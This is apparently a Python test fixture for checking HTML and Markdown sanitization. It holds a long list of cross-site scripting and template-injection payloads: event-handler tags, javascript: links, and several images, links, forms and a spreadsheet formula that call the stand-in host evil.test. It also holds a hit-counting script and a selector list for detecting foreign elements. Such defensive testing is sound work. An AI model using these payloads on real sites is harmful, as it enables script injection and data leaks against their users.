"""Hostile text of the classic lists' kinds, and what hits would look like.

Every payload that can run calls ``hit(n)`` or asks ``//evil.test``; a test counts both.
"""

from __future__ import annotations

_BASES = (
    "<script>hit(1)</script>",
    "</script><script>hit(1)</script>",
    "<img src=x onerror=hit(1)>",
    "<img src=https://evil.test/x.png>",
    '"><img src=x onerror="hit(1)">',
    "'><svg onload=hit(1)>",
    "<svg><script>hit(1)</script></svg>",
    "<svg><animate onbegin=hit(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=hit(1)></svg>#x'></svg>",
    "<iframe src=javascript:hit(1)></iframe>",
    "<iframe srcdoc='<script>parent.hit(1)</script>'></iframe>",
    "<iframe src=https://evil.test/></iframe>",
    "<body onload=hit(1)>",
    "<details open ontoggle=hit(1)>x</details>",
    "<input autofocus onfocus=hit(1)>",
    "<select autofocus onfocus=hit(1)>",
    "<textarea autofocus onfocus=hit(1)>",
    "<video><source onerror=hit(1)></video>",
    "<audio src=https://evil.test/a.mp3 autoplay>",
    "<object data=javascript:hit(1)></object>",
    "<embed src=https://evil.test/e.swf>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit(1)>",
    "<noscript><p title='</noscript><img src=x onerror=hit(1)>'>",
    "<form action=https://evil.test/><button>Send</button></form>",
    "<form id=x></form><button form=x formaction=javascript:hit(1)>x</button>",
    "<a href=javascript:hit(1)>x</a>",
    "<a href=https://evil.test/ target=_blank>x</a>",
    "<base href=https://evil.test/>",
    "<link rel=stylesheet href=https://evil.test/s.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "<style>@import 'https://evil.test/s.css';</style>",
    "<style>body{background:url(https://evil.test/b.png)}</style>",
    "<div style='background:url(https://evil.test/d.png);position:fixed;inset:0'>x</div>",
    "<p style='position:fixed;inset:0;z-index:9999'>overlay</p>",
    "<marquee onstart=hit(1)>x</marquee>",
    "<template><script>hit(1)</script></template>",
    "<dialog open>x</dialog>",
    "<isindex type=image src=1 onerror=hit(1)>",
    "<x onclick=hit(1) tabindex=1 onfocus=hit(1) id=x>#x",
    "<ScRiPt>hit(1)</sCrIpT>",
    "<script src=https://evil.test/x.js></script>",
    "<script src=//evil.test/x.js></script>",
    "&lt;script&gt;hit(1)&lt;/script&gt;",
    "&#60;img src=x onerror=hit(1)&#62;",
    "\\u003cimg src=x onerror=hit(1)\\u003e",
    "%3Cimg%20src=x%20onerror=hit(1)%3E",
    "javascript:hit(1)",
    "data:text/html,<script>hit(1)</script>",
    "![x](https://evil.test/m.png)",
    "[x](javascript:hit(1))",
    "[x](https://evil.test/ 'x')",
    "![x][y]\n\n[y]: https://evil.test/r.png",
    "<https://evil.test/>",
    "https://evil.test/auto",
    "`<img src=x onerror=hit(1)>`",
    "# <img src=x onerror=hit(1)>",
    "| <img src=x onerror=hit(1)> | a |\n|---|---|",
    "${hit(1)}",
    "`${hit(1)}`",
    "{{hit(1)}}",
    "{{constructor.constructor('hit(1)')()}}",
    "{{#with 's' as |s|}}{{lookup s 'constructor'}}{{/with}}",
    "#{hit(1)} <%= hit(1) %> {% hit(1) %}",
    "$\\href{javascript:hit(1)}{x}$ $$\\includegraphics{https://evil.test/k.png}$$",
    '__i18n__{"key":"<img src=x onerror=hit(1)>"}',
    "\u202e<img src=x onerror=hit(1)>\u202c",
    "\x00<img src=x onerror=hit(1)>\x08",
    "<img/src=x/onerror=hit(1)>",
    "<img src=`x` onerror=hit(1)>",
    "<<script>hit(1)//<</script>",
    "<img src=x\nonerror=hit(1)>",
    "<a onmouseover=hit(1)>hover</a>",
    '" onmouseover=hit(1) x="',
    "' onfocus=hit(1) autofocus x='",
    '" style="position:fixed;inset:0',
    "--> <img src=x onerror=hit(1)>",
    "]]><img src=x onerror=hit(1)>",
    "</textarea><img src=x onerror=hit(1)>",
    "</title><img src=x onerror=hit(1)>",
    "</style><img src=x onerror=hit(1)>",
    "</option></select><img src=x onerror=hit(1)>",
    "</datalist><img src=x onerror=hit(1)>",
    '=HYPERLINK("https://evil.test/","x")',
    "<b>{}</b> {0} {name} %s %(x)s",
    "constructor __proto__ toString",
)

PAYLOADS: tuple[str, ...] = _BASES

WATCH = "window.hits = 0; window.hit = () => { window.hits += 1; }; window.alert = window.hit;"
"""Runs before the page: counts what payloads call."""

FOREIGN = (
    "script, iframe, object, embed, form, img, svg, video, audio, base, link, meta, style, math, "
    "dialog, template, marquee, [onerror], [onload], [onfocus], [onclick], [onmouseover], "
    "[autofocus], a[href]:not([href^='page/'])"
)
"""What our own HTML never holds."""
